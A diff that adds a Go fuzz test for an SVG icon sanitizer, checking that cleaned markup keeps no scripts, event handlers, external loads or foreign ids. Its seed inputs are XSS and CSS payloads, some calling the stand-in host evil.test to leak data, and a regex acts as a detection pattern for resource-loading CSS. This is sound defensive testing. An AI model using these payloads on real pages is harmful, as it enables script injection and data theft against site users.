@@ -1,0 +1,73 @@
+package icons
+
+import (
+	"regexp"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+)
+
+// FuzzCleanBody reads what is left of a body as a browser does: there is no script in it, and nothing that asks
+// another host or acts on the page.
+func FuzzCleanBody(f *testing.F) {
+	for _, body := range []string{
+		`<g fill="none"><path d="M0 0"/></g>`,
+		`<script>x</script><path onclick="x"/><foreignObject><b/></foreignObject>`,
+		`<style>@import url(https://evil.test/x.css); *{background:url(https://evil.test/leak)}</style>`,
+		`<path style="fill:url(https://evil.test/f)" fill="u\72l(//evil.test)" mask='url( "#a" )'/>`,
+		`<rect style="mask-image:image-set('https://evil.test/x' 1x)"/>`,
+		`<use href="https://evil.test/x.svg#a"/><image href="data:image/svg+xml,x" xlink:href="#a"/>`,
+		`<set attributeName="href" to="javascript:x"/><animate attributeName="fill" values="url(//evil.test)"/>`,
+		`<g autofocus="" tabindex="0" id = "td:main" data-td-island="scene" title="&lt;/g>&lt;img src=x onerror=y>"/>`,
+		`<text>a <![CDATA[<img src=x onerror=y>]]> ]]&gt; &#x3c;script></text>`,
+		`<title><style></title><img src=x onerror=y></style></title>`,
+		`<svg/onload=x><desc/><A href="x"/><SCRIPT/></svg>`,
+	} {
+		f.Add(body)
+	}
+	f.Fuzz(func(t *testing.T, body string) {
+		clean, err := cleanBody(body)
+		if err != nil {
+			return
+		}
+		root, err := html.Parse(strings.NewReader("<svg>" + ownIDs(clean, "own-") + "</svg>"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for n := range root.Descendants() {
+			checkNode(t, n, clean)
+		}
+	})
+}
+
+// loads matches what makes a browser ask for a file, in CSS that has been unescaped.
+var loads = regexp.MustCompile(`(?i)url\(\s*["']?\s*[^#"'\s)]|image-set\(|image\(|src\(|element\(|@import|\\`)
+
+func checkNode(t *testing.T, n *html.Node, clean string) {
+	t.Helper()
+	if n.Type != html.ElementNode {
+		return
+	}
+	if n.Namespace != "svg" && n.Data != "html" && n.Data != "head" && n.Data != "body" {
+		t.Errorf("<%s> is not of SVG, in %q", n.Data, clean)
+	}
+	if !draws(n.Data) && n.Namespace == "svg" {
+		t.Errorf("<%s> is left in %q", n.Data, clean)
+	}
+	for _, attr := range n.Attr {
+		name, value := strings.ToLower(attr.Key), strings.ToLower(strings.TrimSpace(attr.Val))
+		switch {
+		case strings.HasPrefix(name, "on"), strings.HasPrefix(name, "data-"), name == "autofocus", name == "tabindex":
+			t.Errorf("%s is left in %q", name, clean)
+		case name == "id" && !strings.HasPrefix(attr.Val, "own-"):
+			t.Errorf("the id %q is not the icon's own, in %q", attr.Val, clean)
+		case name == "href" || name == "src" || name == "attributename" && value == "href":
+			if !strings.HasPrefix(value, "#") && !isPicture(value) {
+				t.Errorf("%s leads to %q in %q", name, attr.Val, clean)
+			}
+		case loads.MatchString(value):
+			t.Errorf("%s loads %q in %q", name, attr.Val, clean)
+		}
+	}
+}
